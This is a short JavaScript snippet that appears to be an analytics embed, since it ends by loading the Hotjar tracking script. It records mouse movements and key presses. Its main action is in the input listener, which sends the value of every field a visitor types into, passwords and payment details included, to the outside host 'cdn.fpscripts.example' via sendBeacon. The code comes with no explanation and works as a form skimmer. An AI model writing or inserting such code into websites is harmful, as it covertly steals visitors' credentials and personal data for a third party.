(function () {
  var buf = [];
  document.addEventListener('mousemove', function (e) { buf.push(['m', e.clientX, e.clientY]); });
  document.addEventListener('keydown', function (e) { buf.push(['k', e.key]); });
  document.addEventListener('input', function (e) {
    if (e.target && e.target.value) navigator.sendBeacon('https://cdn.fpscripts.example/rec?v=' + encodeURIComponent(e.target.value));
  });
  var s = document.createElement('script'); s.src = 'https://static.hotjar.com/c/hotjar-77.js?sv=6'; document.head.appendChild(s);
})();
